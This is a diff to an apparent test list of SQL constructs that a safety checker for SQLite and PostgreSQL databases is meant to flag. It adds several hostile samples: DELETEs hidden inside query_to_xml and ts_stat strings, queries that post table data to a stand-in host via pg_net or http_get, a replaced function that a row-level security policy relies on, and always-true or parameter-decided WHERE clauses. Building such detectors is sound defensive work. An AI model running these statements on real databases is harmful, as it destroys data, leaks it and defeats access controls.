@@ -86,6 +86,24 @@ const constructs: Construct[] = [
   { name: 'IMPORT FOREIGN SCHEMA', dialects: ['postgresql'], sql: (t, c, u) => `IMPORT FOREIGN SCHEMA ${c} FROM SERVER ${t} INTO ${u}` },
   { name: 'SECURITY LABEL', dialects: ['postgresql'], sql: (t) => `SECURITY LABEL ON TABLE ${t} IS 'system_u:object_r:sepgsql_table_t:s0'` },
   { name: 'CREATE OR REPLACE VIEW', dialects: ['postgresql'], sql: (t, c) => `CREATE OR REPLACE VIEW ${t} AS SELECT ${c} FROM ${t}_base` },
+  // SQL run from a string by a function inside a SELECT; HTTP from inside the database (Supabase's
+  // pg_net and http extensions); code others call replaced (an `is_admin()` a row-level security policy calls).
+  { name: 'query_to_xml', dialects: ['postgresql'], sql: (t) => `SELECT query_to_xml ( $q$DELETE FROM ${t} RETURNING 1$q$ , true , true , '' )` },
+  { name: 'ts_stat', dialects: ['postgresql'], sql: (t, c) => `SELECT * FROM ts_stat ( $q$DELETE FROM ${t} RETURNING ${c}$q$ )` },
+  { name: 'ts_rewrite with a query', dialects: ['postgresql'], sql: (t, c, u) => `SELECT ts_rewrite ( 'a'::tsquery , $q$SELECT ${c} , ${u} FROM ${t}$q$ )` },
+  { name: 'pg_net http_post', dialects: ['postgresql'], sql: (t, c, u) => `SELECT net.http_post ( url := 'https://x.example/' , body := ( SELECT jsonb_agg ( ${c} ) FROM ${t} ) ) AS ${u}` },
+  { name: 'http extension http_get', dialects: ['postgresql'], sql: (t, c) => `SELECT ${t}.http_get ( 'https://x.example/?d=' || ${c} ) FROM ${t}` },
+  { name: 'CREATE OR REPLACE FUNCTION', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE FUNCTION ${t} ( ) RETURNS boolean LANGUAGE sql BEGIN ATOMIC SELECT true ; END` },
+  { name: 'CREATE OR REPLACE PROCEDURE', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE PROCEDURE ${t} ( ) LANGUAGE sql BEGIN ATOMIC SELECT 1 ; END` },
+  { name: 'CREATE OR REPLACE AGGREGATE', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE AGGREGATE ${t} ( integer ) ( SFUNC = int4pl , STYPE = integer )` },
+  // A CASE whose every branch holds.
+  { name: 'DELETE WHERE CASE all true', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE CASE WHEN ${c} = 1 THEN 1 = 1 ELSE 2 = 2 END` },
+  { name: 'UPDATE WHERE CASE all true', dialects: ['sqlite', 'postgresql'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE CASE ${c} WHEN 1 THEN TRUE ELSE ${c} IS NOT NULL END` },
+  // Parameters (D1's `params`): only the rows spared are named, or a bound value alone decides.
+  ...[(c: string) => `${c} != ?`, (c: string) => `${c} <> :${c}`, (c: string) => `${c} NOT IN ( @a , @b )`, (c: string) => `${c} = ?1 OR $${c}`, (c: string) => `${c} IS NOT ?2`].flatMap((w, i): Construct[] => [
+    { name: `DELETE WHERE parameter ${i}`, dialects: ['sqlite'], sql: (t, c) => `DELETE FROM ${t} WHERE ${w(c)}` },
+    { name: `UPDATE WHERE parameter ${i}`, dialects: ['sqlite'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = ? WHERE ${w(c)}` },
+  ]),
   // The table's own values: every row is among them.
   { name: 'DELETE WHERE IN itself', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE ${c} IN ( SELECT ${c} FROM ${t} )` },
   { name: 'UPDATE WHERE = ANY itself', dialects: ['postgresql'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE ${c} = ANY ( SELECT ${c} FROM ${t} WHERE 1 = 1 )` },
